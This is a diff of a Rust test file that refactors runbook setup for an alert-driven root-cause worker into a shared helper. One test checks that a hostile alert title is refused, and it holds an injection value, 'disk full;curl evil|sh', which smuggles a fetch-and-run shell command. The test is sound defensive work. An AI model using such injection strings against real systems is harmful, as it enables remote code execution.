@@ -336,9 +336,14 @@ async fn leases_are_stamped_and_judged_by_the_databases_clock_alone() {
 
 /// An analyst with one runbook of the harness' user for disk alerts, running `commands`.
 fn analyst_running(h: &Harness, commands: &[&[&str]]) -> aurora_rca_worker::Analyst {
-    let runbook = aurora_settings::Runbook::try_from(aurora_settings::RunbookSpec {
-        name: "disk checks".into(),
-        user: h.user.to_string(),
+    analyst_with(vec![disk_runbook("disk checks", h.user.as_str(), commands)])
+}
+
+/// A runbook of `user` for disk alerts, running `commands`.
+fn disk_runbook(name: &str, user: &str, commands: &[&[&str]]) -> aurora_settings::Runbook {
+    aurora_settings::Runbook::try_from(aurora_settings::RunbookSpec {
+        name: name.into(),
+        user: user.into(),
         match_terms: vec!["disk".into()],
         commands: commands
             .iter()
@@ -346,8 +351,7 @@ fn analyst_running(h: &Harness, commands: &[&[&str]]) -> aurora_rca_worker::Anal
             .collect(),
         ..Default::default()
     })
-    .unwrap();
-    analyst_with(vec![runbook])
+    .unwrap()
 }
 
 /// Waits until the incident has a thought starting with `start`.
@@ -670,17 +674,11 @@ async fn another_users_runbook_never_runs_for_an_incident() {
     let mut conn = h.db.connect().await;
     let other = aurora_db::users::create(&mut conn, "other").await.unwrap();
     let incident_id = h.send(&disk_full()).await.opened_incidents[0];
-    let runbooks = vec![
-        aurora_settings::Runbook::try_from(aurora_settings::RunbookSpec {
-            name: "their disk usage".into(),
-            user: other.user.id,
-            match_terms: vec!["disk".into()],
-            commands: vec![vec!["df".into(), "-h".into(), "/".into()]],
-            ..Default::default()
-        })
-        .unwrap(),
-    ];
-    let analyst = analyst_with(runbooks);
+    let analyst = analyst_with(vec![disk_runbook(
+        "their disk usage",
+        &other.user.id,
+        &[&["df", "-h", "/"]],
+    )]);
     assert_eq!(
         h.investigator(analyst)
             .investigate(incident_id)
@@ -711,17 +709,11 @@ async fn a_hostile_alert_value_is_refused_by_its_placeholder_pattern_and_never_r
         "disk full;curl evil|sh",
     );
     let incident_id = h.send(&hostile).await.opened_incidents[0];
-    let runbooks = vec![
-        aurora_settings::Runbook::try_from(aurora_settings::RunbookSpec {
-            name: "echo title".into(),
-            user: h.user.to_string(),
-            match_terms: vec!["disk".into()],
-            commands: vec![vec!["echo".into(), "{title}".into()]],
-            ..Default::default()
-        })
-        .unwrap(),
-    ];
-    let analyst = analyst_with(runbooks);
+    let analyst = analyst_with(vec![disk_runbook(
+        "echo title",
+        h.user.as_str(),
+        &[&["echo", "{title}"]],
+    )]);
     assert_eq!(
         h.investigator(analyst)
             .investigate(incident_id)
